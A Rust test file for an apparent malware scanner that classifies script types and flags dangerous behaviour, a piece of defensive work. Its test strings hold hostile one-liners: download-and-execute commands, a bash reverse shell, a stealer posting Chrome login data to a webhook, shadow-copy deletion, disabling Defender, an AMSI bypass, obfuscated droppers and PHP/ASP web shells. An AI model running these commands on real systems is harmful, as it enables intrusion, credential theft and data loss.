mod decoding;

use crate::forge::text::{phar, utf16};
use crate::forge::{Example, Specimen, case, fired, pe, png, type_of};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[
    ("powershell", || {
        b"param([string]$Name)\n$items = Get-ChildItem -Path $Name\nforeach ($item in $items) {\n    Write-Host $item.Name\n}\n".to_vec()
    }),
    ("encoded-script", || b"#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@".to_vec()),
    ("vbscript", || {
        b"Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nWScript.Echo \"hello\"\nWScript.Quit\n".to_vec()
    }),
    ("vba", || {
        b"Attribute VB_Name = \"Module1\"\nSub Tidy()\n    Dim i As Integer\n    For i = 1 To 10\n        Cells(i, 1).Value = i\n    Next i\n    ActiveWorkbook.Save\nEnd Sub\n".to_vec()
    }),
    ("javascript", || {
        b"var shell = new ActiveXObject(\"WScript.Shell\");\nfunction greet(name) {\n  return \"hello \" + name;\n}\nWScript.Echo(greet(\"x\"));\n".to_vec()
    }),
    ("wsf", || b"<job id=\"a\">\n<script language=\"VBScript\">\n' nothing\n</script>\n</job>\n".to_vec()),
    ("batch", || {
        b"@echo off\r\nsetlocal\r\nset NAME=%1\r\nif \"%NAME%\"==\"\" goto end\r\necho %NAME%\r\n:end\r\n".to_vec()
    }),
    ("shell", || b"#!/bin/sh\necho hello\n".to_vec()),
    ("python", || b"#!/usr/bin/env python3\nprint('hello')\n".to_vec()),
    ("perl", || b"#!/usr/bin/perl -w\nprint \"hello\";\n".to_vec()),
    ("php", || b"<?php\necho 'hello';\n".to_vec()),
    ("ruby", || b"#!/usr/bin/env ruby\nputs 'hello'\n".to_vec()),
    ("lua", || b"#!/usr/bin/lua5.4\nprint('hello')\n".to_vec()),
    ("tcl", || b"#!/usr/bin/tclsh8.6\nputs hello\n".to_vec()),
    ("awk", || b"#!/usr/bin/awk -f\n{ print }\n".to_vec()),
    ("applescript", || b"tell application \"Finder\"\n    activate\n    display dialog \"hello\"\nend tell\n".to_vec()),
    ("autoit", || {
        b"#NoTrayIcon\n#include <MsgBoxConstants.au3>\nLocal $size = 1\nWhile $size < 3\n    $size = $size + 1\nWEnd\nMsgBox(0, \"a\", @ScriptDir)\n".to_vec()
    }),
    ("autohotkey", || {
        b"#NoEnv\n#SingleInstance Force\nSendMode Input\nSetWorkingDir %A_ScriptDir%\n^j::\nMsgBox hello\nreturn\n"
            .to_vec()
    }),
    ("asp", || b"<%@ Language=VBScript %>\n<% Response.Write(\"hello\") %>\n".to_vec()),
    ("jsp", || b"<%@ page import=\"java.util.*\" %>\n<% out.print(1); %>\n".to_vec()),
    ("interpreter-script", || b"#!/usr/sbin/nft -f\nflush ruleset\n".to_vec()),
    ("compiled-applescript", || b"FasdUAS 1.101.10\x0e\0\0\0\x04".to_vec()),
    ("phar", || phar("<?php echo 1; ")),
];

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "scripts.download-and-run",
        fires: || case("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\n"),
        silent: || case("a.ps1", "$page = Invoke-WebRequest -Uri 'https://x.invalid/'\nWrite-Host $page.StatusCode\n"),
    },
    Example {
        rule: "scripts.download-to-shell",
        fires: || case("a.sh", "#!/bin/sh\ncurl -fsSL https://x.invalid/a.sh | sh\n"),
        silent: || case("a.sh", "#!/bin/sh\n# curl https://x.invalid/a.sh | sh\ncurl https://x.invalid/list | sort\n"),
    },
    Example {
        rule: "scripts.encoded",
        fires: || case("a.vbe", "#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@"),
        silent: || case("a.vbs", "Dim a\nSet a = CreateObject(\"WScript.Shell\")\nWScript.Echo \"x\"\n"),
    },
    Example {
        rule: "scripts.fetches-in-plain-sight",
        fires: || case("a.ps1", INSTALLER),
        silent: || case("a.ps1", "$page = Invoke-WebRequest -Uri 'https://x.invalid/'\nWrite-Host $page.StatusCode\n"),
    },
    Example {
        rule: "scripts.masked-orders",
        fires: || case("a.ps1", "$a = ('{1}{0}'-f'X','IE')\n& $a 'Get-Date'\nWrite-Host 1\n"),
        silent: || case("a.ps1", "$a = ('{1}{0}'-f'b','a')\nWrite-Host $a\nInvoke-Expression 'Get-Date'\n"),
    },
    Example {
        rule: "scripts.switches-off-protection",
        fires: || case("a.ps1", "Write-Host 1\nSet-MpPreference -DisableRealtimeMonitoring $true\n"),
        silent: || {
            case(
                "a.ps1",
                "# Set-MpPreference -DisableRealtimeMonitoring $true\nGet-MpPreference\nSet-MpPreference -DisableRealtimeMonitoring $false\n",
            )
        },
    },
    Example {
        rule: "scripts.destroys-backups",
        fires: || case("a.bat", "@echo off\r\nvssadmin delete shadows /all /quiet\r\n"),
        silent: || {
            case(
                "a.bat",
                "@echo off\r\nvssadmin list shadows\r\nrem vssadmin delete shadows /all\r\necho vssadmin delete shadows\r\n",
            )
        },
    },
    Example {
        rule: "scripts.hands-over-control",
        fires: || case("a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
        silent: || case("a.sh", "#!/bin/bash\n(echo > /dev/tcp/192.0.2.1/80) && echo open\n"),
    },
    Example {
        rule: "scripts.steals",
        fires: || {
            case(
                "a.py",
                "import os\nimport requests\npath = os.environ['LOCALAPPDATA'] + '/Google/Chrome/User Data/Default/Login Data'\nrequests.post('https://discord.com/api/webhooks/1', data=open(path).read())\n",
            )
        },
        silent: || {
            case(
                "a.py",
                "import os\nimport requests\nrequests.post('https://x.invalid/', data={'login': 'data'})\nprint(os.name)\n",
            )
        },
    },
    Example {
        rule: "scripts.carries-program",
        fires: || {
            case("a.ps1", format!("$b = '{}'\nWrite-Host $b.Length\n$c = Get-Date\n", STANDARD.encode(pe::minimal())))
        },
        silent: || {
            case("a.ps1", format!("$b = '{}'\nWrite-Host $b.Length\n$c = Get-Date\n", STANDARD.encode(png::plain())))
        },
    },
    Example {
        rule: "scripts.does",
        fires: || case("a.ps1", "Start-Process notepad.exe\nWrite-Host 1\n$c = Get-Date\n"),
        silent: || case("a.ps1", "Write-Host 1\n$c = Get-Date\n"),
    },
];

/// A script that installs a program, as an administrator writes it.
const INSTALLER: &str = "param([string]$Url)\nWrite-Host \"Downloading $Url\"\nInvoke-WebRequest -Uri $Url -OutFile \
                         setup.msi\nWrite-Host 'Installing'\n$p = Start-Process msiexec -ArgumentList '/i setup.msi' \
                         -Wait -PassThru\nif ($p.ExitCode -ne 0) { throw 'failed' }\nWrite-Host 'Done'\n";

const VBS: &str = "On Error Resume Next\r\nDim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\nWScript.Echo \"x\"\r\n";

#[test]
fn a_script_is_known_under_a_harmless_name_and_in_every_encoding() {
    let kind = |bytes: Vec<u8>| type_of(&case("a.txt", bytes).examine());
    assert_eq!(kind(VBS.into()), "vbscript");
    assert_eq!(kind(utf16(VBS, true)), "vbscript");
    assert_eq!(kind(utf16(VBS, false)), "vbscript");
    assert_eq!(kind(format!("\u{FEFF}{VBS}").into()), "vbscript");
    assert_eq!(kind(b"\xEF\xBB\xBF#!/bin/sh\necho x\n".to_vec()), "shell");
}

#[test]
fn blanks_comments_and_zeros_hide_no_script() {
    let kind = |bytes: Vec<u8>| type_of(&case("a.txt", bytes).examine());
    assert_eq!(kind(format!("{}{VBS}", "\r\n".repeat(40_000)).into()), "vbscript");
    assert_eq!(kind(format!("{}{VBS}", "' a long story\r\n".repeat(1000)).into()), "vbscript");
    let zeros = VBS.bytes().enumerate().flat_map(|(i, b)| if i % 5 == 0 { vec![0, b] } else { vec![b] });
    assert_eq!(kind(zeros.collect()), "vbscript");
}

#[test]
fn one_line_is_enough_where_it_is_clear() {
    for (id, text) in [
        ("batch", "@echo off & powershell -nop -w hidden -enc AAAA\r\n"),
        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')"),
        ("vbscript", "CreateObject(\"WScript.Shell\").Run \"nothing.exe\", 0"),
        ("javascript", "new ActiveXObject(\"WScript.Shell\").Run(\"nothing.exe\");"),
        ("text", "powershell"),
        ("text", "Use CreateObject to make it."),
    ] {
        assert_eq!(type_of(&case("a.txt", text).examine()), id, "{text}");
    }
}

#[test]
fn what_downloads_and_starts_is_dangerous_in_every_language() {
    for text in [
        "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://x.invalid\", False\nx.Send\n\
         Set s = CreateObject(\"WScript.Shell\")\ns.Run \"a.exe\"\n",
        "@echo off\r\ncertutil -urlcache -split -f https://x.invalid/a a.exe\r\nstart a.exe\r\n",
        "@echo off\r\npowershell -nop -w hidden -enc AAAA\r\n",
        "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nvar s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"a.exe\");\n",
        "#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('AAAA'))\n",
        "<?php eval(base64_decode('AAAA')); ?>\n",
    ] {
        let report = case("a.txt", text).examine();
        assert!(fired(&report).contains(&"scripts.download-and-run"), "{} {text}", type_of(&report));
        assert_eq!(report.judgement.verdict, Verdict::Dangerous);
    }
}

#[test]
fn a_php_archive_behind_a_picture_is_dangerous_and_its_name_in_a_text_is_not() {
    let mut bytes = png::plain();
    bytes.extend(phar(""));
    let report = case("photo.png", bytes).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
    let text = "The stub ends with __HALT_COMPILER(); ?>\r\nand then the manifest follows, which is binary.\n";
    assert_eq!(case("a.txt", text).examine().judgement.verdict, Verdict::Clean);
}

#[test]
fn snippets_in_prose_are_no_script() {
    let readme = "# Tool\n\nA small tool that does things for you.\n\n## Install\n\n```sh\ncurl https://x.invalid | sh\nexport \
                  PATH=$PATH:/opt/tool/bin\n```\n\nThen start it with the name of a file, and it will tell you what it \
                  is.\n\n```python\nimport tool\ndef main():\n    tool.run()\n```\n";
    assert_eq!(type_of(&case("README.md", readme).examine()), "text");
}

#[test]
fn short_droppers_are_recognised() {
    let mut wrong = Vec::new();
    for (id, text) in [
        ("javascript", "var _0x4a=['ru','n'];(function(a,b){while(--b){a['push'](a['shift']());}}(_0x4a,0x1b3));\n"),
        ("javascript", "eval(unescape('%76%61%72%20%61'));\n"),
        ("javascript", "var a = 'WSc' + 'ript'; var o = new ActiveXObject(a); o['R' + 'un']('nothing');"),
        ("vbscript", "a=\"\"\nFor Each c In Split(\"68 65\")\na = a & Chr(\"&H\" & c)\nNext\nExecute a\n"),
        ("vbscript", "Execute(Chr(67)&Chr(114)&Chr(101)&Chr(97)&Chr(116))\n"),
        ("vbscript", "Dim y\nSet y=GetObject(\"winmgmts:Win32_Process\")\ny.Create \"nothing\",Null,Null,z\n"),
        ("batch", "@echo off\r\nset a=abcdefgh\r\n%a:~1,1%%a:~2,1%%a:~0,1%\r\n"),
        ("batch", "start \"\" /min cmd /c \"curl -o %TEMP%\\a.exe http://x.invalid/a && %TEMP%\\a.exe\"\r\n"),
        ("batch", "powershell -w h -e AAAA\r\n"),
        ("batch", "mshta http://x.invalid/a.hta\r\n"),
        ("powershell", "$a='ht'+'tp';$b=[Convert]::FromBase64String('AAAA');&($a+$b)\n"),
        ("powershell", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').SetValue($null,$true)\n"),
        ("shell", "cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a\n"),
        ("python", "import os,base64\nexec(base64.b64decode('AAAA'))\n"),
        ("python", "import socket,subprocess,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['x'])\n"),
        ("applescript", "do shell script \"curl http://x.invalid\"\n"),
        ("hta", "<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"a\"\n</script>\n"),
        ("wsf", "some words here and there\n\n<job>\n<script language=\"JScript\">\nvar a=1;\n</script>\n</job>\n"),
        ("asp", "<% eval request(\"x\") %>\n"),
        ("php", "hello <?php system($_GET['c']); ?>"),
    ] {
        let found = type_of(&case("a.txt", text).examine());
        if found != id {
            wrong.push(format!("{text:?} is taken for {found}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn notes_about_commands_are_no_scripts() {
    for text in [
        "powershell",
        "Powershell notes\n\n- learn loops\n- learn pipes\n",
        "mshta is an old program of Windows.\n",
        "cd /tmp and then wget the file, please.\n",
        "Shopping list:\n- eggs\n- milk\n",
        "import os is the first line.\n",
    ] {
        assert_eq!(type_of(&case("a.txt", text).examine()), "text", "{text}");
    }
}

#[test]
fn a_library_of_web_pages_that_asks_the_old_way_is_no_loader() {
    let library = "(function () {\n  var ask = function () {\n    try { return new XMLHttpRequest(); }\n    catch (e) { return new \
                   ActiveXObject('Microsoft.XMLHTTP'); }\n  };\n  var m = /a+/.exec(window.location);\n  return m;\n})();\n";
    let silent = fired(&case("library.js", library).examine());
    assert!(!silent.contains(&"scripts.download-and-run"), "{silent:?}");
    let loader = format!("{library}var s = new ActiveXObject('WScript.Shell');\ns.exec('x');\nWScript.Sleep(1);\n");
    let told = fired(&case("loader.js", loader).examine());
    assert!(told.contains(&"scripts.download-and-run"), "{told:?}");
}

#[test]
fn bindings_to_python_in_another_language_are_no_script() {
    let words = "import os\nimport sys\ndef parse(self):\n    raise ValueError(self.name)\nif __name__ == '__main__':\n    \
                 print(isinstance(None, str))\n";
    assert_eq!(type_of(&case("parsers.cpp", words).examine()), "python");
    for opening in ["// Bindings\n", "/* Bindings */\n", "#include <pybind11/pybind11.h>\n"] {
        assert_ne!(type_of(&case("parsers.cpp", format!("{opening}{words}")).examine()), "python", "{opening}");
    }
}

#[test]
fn code_in_plain_behind_a_word_of_python_is_not_hidden_code() {
    let batch = |code: &str| {
        format!(
            "@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\n{code}\r\n@powershell.exe -Command Get-Date\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n"
        )
    };
    let told = |code: &str| fired(&case("a.bat", batch(code)).examine()).contains(&"scripts.download-and-run");
    assert!(!told("python.exe -Ec \"import sys; assert sys.version_info >= (3, 8)\""));
    assert!(told("powershell.exe -nop -ec JABhAD0AMQA7AGUAYwBoAG8AIAAkAGEA"));
    assert!(told("powershell.exe -ec \"JABhAD0AMQA7AGUAYwBoAG8AIAAkAGEA\""));
    assert!(told("powershell.exe -nop -ec %code%"));
}

#[test]
fn a_text_that_its_name_starts_as_a_script_is_judged_as_one() {
    let order = "iex(irm https://x.invalid/a)";
    for (name, dangerous) in [("a.ps1", true), ("a.ps1 ", true), ("a.md", false)] {
        let found = fired(&case(name, format!("{order}\n")).examine()).contains(&"scripts.download-and-run");
        assert_eq!(found, dangerous, "{name}");
    }
    let told = |text: &str| fired(&case("a.bat", text).examine());
    assert!(told("vssadmin delete shadows /all\r\n").contains(&"scripts.destroys-backups"));
    assert!(!told("Ask IT before you delete shadows.\r\n").contains(&"scripts.destroys-backups"));
}

#[test]
fn editors_that_colour_the_words_of_other_languages_are_no_loaders() {
    let module = "define(\"mode/powershell\",[\"require\"],function(e,t,n){\"use strict\";var r=\"Get-Date|Invoke-Expression|\
                  Invoke-WebRequest|New-Object|Start-Process|Write-Host|Start-BitsTransfer|param|foreach\";t.mode=r;});\n";
    let report = case("mode-powershell.js", module).examine();
    assert_eq!(type_of(&report), "javascript");
    assert!(report.judgement.verdict < Verdict::Dangerous, "{:?}", fired(&report));
}

#[test]
fn what_a_script_does_is_told_with_the_line_and_its_place() {
    let text = "Write-Host 'hello'\nStart-Process notepad.exe\nRegister-ScheduledTask -TaskName a -Action $b\n";
    let report = case("a.ps1", text).examine();
    let told: Vec<_> = report.findings.iter().filter(|f| f.rule.id == "scripts.does").collect();
    assert_eq!(told.len(), 2, "{told:?}");
    for (finding, line) in told.iter().zip(["Register-ScheduledTask -TaskName a", "Start-Process notepad.exe"]) {
        assert!(finding.proof().contains(line), "{}", finding.proof());
        let place = usize::try_from(finding.span.unwrap().offset).unwrap();
        assert!(text[place..].starts_with(&line[..8]), "{place}");
    }
}

#[test]
fn a_page_that_tears_the_names_of_objects_runs_as_a_program() {
    let page = |call: &str| {
        format!("<html><head><script language=\"VBScript\">\nSet s = CreateObject({call})\n</script></head></html>\n")
    };
    let torn = case("a.hta", page("\"WScr\" & \"ipt.She\" & \"ll\"")).examine();
    assert_eq!(type_of(&torn), "hta");
    assert!(fired(&torn).contains(&"scripts.masked-orders"), "{:?}", fired(&torn));
    assert_eq!(type_of(&case("a.html", page("\"ShockwaveFlash.ShockwaveFlash.\" & i")).examine()), "html");
}

#[test]
fn libraries_that_read_workbooks_and_colour_code_are_no_loaders() {
    let workbook = "\"use strict\";\nvar tag = /<[^>]*>/g;\nfunction parse(r, e) {\n  var m = tag.exec(r);\n  switch (m[0]) {\n    \
                    case \"string\": case \"fixed\": case \"uuid\": case \"bin.base64\": break;\n    default: throw new Error(\"bad\");\n  \
                    }\n  try { f = new ActiveXObject(\"MSXML2.DOMDocument\") } catch (e) {}\n  return module.exports = parse;\n}\n";
    let colours = "module.exports = function (Prism) {\n  var names = /\\b(?:SysGet|Thread|ToolTip|Transform|TrayTip|\
                   URLDownloadToFile|WinActivate|WinClose|RunWait|WinGet)\\b/i;\n  var more = [/foreach|group|gsn|history|icm|iex|ihy|ii|\
                   ipal|irm|ise|iwmi|iwr|kill|lp|ls|man/];\n  Prism.languages.autohotkey = { keyword: names, builtin: more };\n};\n";
    for (name, text) in [("xlsx.js", workbook), ("prism.js", colours)] {
        let report = case(name, text).examine();
        assert!(report.judgement.verdict < Verdict::Dangerous, "{name}: {:?}", fired(&report));
    }
    // With the host of Windows at hand the same words are an attack.
    let loader = workbook.replace("return module", "new ActiveXObject(\"WScript.Shell\").Run(f); return module");
    assert_eq!(case("xlsx.js", loader).examine().judgement.verdict, Verdict::Dangerous);
    // One order behind another is no list.
    let piped = "$u='https://evil.example/a'\niwr $u|iex|out-null\nWrite-Host done\n";
    assert_eq!(case("a.ps1", piped).examine().judgement.verdict, Verdict::Dangerous);
}
